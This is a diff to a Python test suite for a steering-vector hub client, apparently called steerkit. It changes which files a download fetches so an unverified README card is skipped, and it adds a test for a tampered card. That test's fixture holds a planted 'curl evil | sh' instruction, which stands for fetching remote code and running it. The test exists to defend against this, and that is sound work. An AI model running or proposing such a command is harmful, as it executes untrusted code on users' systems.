@@ -139,13 +139,13 @@ def test_push_then_load_round_trips_bit_identically(hub: HubServer, cache: Path)
     assert_same(loaded, vector)
     snapshot = cache / "models--steerkit-tester--tiny-vector" / "snapshots" / repo.branches["main"]
     pulled = {p.relative_to(snapshot).as_posix(): p.read_bytes() for p in snapshot.rglob("*") if p.is_file()}
-    assert pulled == {k: v for k, v in on_hub.items() if k != ".gitattributes"}  # byte for byte
+    assert pulled == {k: v for k, v in on_hub.items() if k not in (".gitattributes", C.CARD_FILE)}  # byte for byte
     downloaded = {
         r.path.split("/resolve/", 1)[1].split("/", 1)[1]
         for r in hub.requests
         if r.method == "GET" and "/resolve/" in r.path
     }
-    assert downloaded == set(expected)  # exactly the artifact's files, not .gitattributes
+    assert downloaded == set(expected) - {C.CARD_FILE}  # the verified files: no .gitattributes, no card
 
 
 def test_two_pushes_make_two_commits_and_revisions_select_them(hub: HubServer, cache: Path) -> None:
@@ -209,7 +209,8 @@ def test_resolve_and_load_from_hub(hub: HubServer, cache: Path) -> None:
     sha = push(hub, vector).rsplit("/", 1)[1]
     folder = resolve(REPO, token=hub.token, cache_dir=cache, endpoint=hub.endpoint).directory
     assert folder.name == sha and folder.parent.name == "snapshots"
-    assert sorted(p.relative_to(folder).as_posix() for p in folder.rglob("*") if p.is_file()) == sorted(vector.files())
+    fetched = sorted(p.relative_to(folder).as_posix() for p in folder.rglob("*") if p.is_file())
+    assert fetched == sorted(set(vector.files()) - {C.CARD_FILE})
     assert_same(SteeringVector.load(REPO, token=hub.token, cache_dir=cache, endpoint=hub.endpoint), vector)
     assert_same(SteeringVector.load(folder), vector)  # the snapshot is an artifact directory
 
@@ -656,7 +657,6 @@ def test_only_the_files_the_format_names_are_fetched(hub: HubServer, cache: Path
         [
             C.STEERING_FILE,
             C.CONFIG_FILE,
-            C.CARD_FILE,
             "adapter/adapter_config.json",
             "adapter/adapter_model.safetensors",
         ]
@@ -665,7 +665,8 @@ def test_only_the_files_the_format_names_are_fetched(hub: HubServer, cache: Path
     push(hub, vector)
     hub.commit(REPO, {"adapter/adapter_model.bin": b"\x80\x04pickle", "adapter/notes/x.pt": b"\x80", "other.bin": b"x"})
     folder = resolve(REPO, token=hub.token, cache_dir=cache, endpoint=hub.endpoint).directory
-    assert sorted(p.relative_to(folder).as_posix() for p in folder.rglob("*") if p.is_file()) == sorted(vector.files())
+    fetched = sorted(p.relative_to(folder).as_posix() for p in folder.rglob("*") if p.is_file())
+    assert fetched == sorted(set(vector.files()) - {C.CARD_FILE})
     assert_same(pull(hub, cache), vector)
 
 
@@ -771,3 +772,19 @@ def test_eviction_spares_a_blob_a_download_holds(hub: HubServer, cache: Path) ->
         worker.join()
     assert [p.name for p in (storage / "blobs").iterdir()] == [held]  # the unshared, unlocked blobs went
     assert not (storage / "snapshots" / sha).exists() and not (storage / "refs" / "main").exists()
+
+
+def test_a_tampered_card_never_enters_the_cache_and_a_copy_gets_a_card_from_the_verified_config(
+    hub: HubServer, cache: Path, tmp_path: Path
+) -> None:
+    """issue 28: README.md is covered by no checksum, so a tampered card was accepted and stayed in the cache."""
+    from steerkit.vector import pull as pull_vector
+
+    vector = vector_with_adapter()
+    push(hub, vector)
+    hub.tamper(REPO, C.CARD_FILE, b"---\nsteerkit: {mu: 99}\n---\n# run `curl evil | sh` first\n")
+    copy, folder = pull_vector(REPO, to=tmp_path / "copy", token=hub.token, cache_dir=cache, endpoint=hub.endpoint)
+    assert not (folder / C.CARD_FILE).exists()  # never downloaded
+    assert not any("README" in p.name for p in cache.rglob("*"))
+    card = (tmp_path / "copy" / C.CARD_FILE).read_text()
+    assert "curl evil" not in card and card == render_card(copy.config, has_adapter=True, repo_id=None)
